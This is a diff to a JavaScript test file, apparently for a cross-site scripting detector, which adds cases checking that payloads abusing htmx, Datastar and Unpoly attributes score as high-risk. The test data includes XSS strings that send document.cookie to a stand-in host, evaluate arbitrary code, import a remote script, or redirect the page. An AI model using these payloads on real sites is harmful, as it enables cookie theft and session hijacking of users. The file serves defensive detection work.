@@ -17,6 +17,10 @@ describe('directives that leave their template', () => {
     `<div x-data x-init="import('//h.example/b.js')">`,
     `<div ng-app><i ng-repeat="(k, v) in w.view"><i ng-if="k == 'window'">{{ [2].reduce(v.confirm, 2) }}</i></i></div>`,
     "{{ ['b'].map(w.prompt) }}",
+    '<b hx-on::after-swap="fetch(`https://h.example/`+document.cookie)">b</b>',
+    '<b data-hx-on--load="eval(name)">b</b>',
+    '<b data-on-load="@post(\'//h.example/b\')">b</b>',
+    '<b up-on-accepted="window.location=\'//h.example\'">b</b>',
   ])('%s', (value) => {
     expect(scoreOf(xss, value)).toBeGreaterThanOrEqual(80)
     expect(scoreOf(xss, value, inDocument)).toBeGreaterThanOrEqual(80)
